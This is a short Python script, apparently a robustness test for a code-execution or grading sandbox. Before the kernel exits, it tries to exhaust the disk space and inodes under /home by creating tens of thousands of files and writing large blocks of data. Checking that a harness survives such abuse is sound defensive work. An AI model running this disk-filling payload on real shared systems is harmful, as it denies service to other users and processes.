"""Idea: Before the kernel ends itself, it leaves the disk of the homes without a byte or an inode.
Must: The kernel that takes its place has room, and later questions are graded.
"""

import os
import time

END = time.monotonic() + 40
os.makedirs(f"/home/{MARK}" if os.access("/home", os.W_OK) else MARK, exist_ok=True)
place = f"/home/{MARK}" if os.access("/home", os.W_OK) else MARK
try:
    for number in range(99_000):
        os.close(os.open(f"{place}/{number}", os.O_CREAT | os.O_WRONLY))
        if time.monotonic() > END:
            break
except OSError:
    pass
try:
    with open(f"{place}/0", "wb", buffering=0) as file:
        for _ in range(400):
            file.write(MARK.encode() * 30_000)
except OSError:
    pass
os._exit(0)
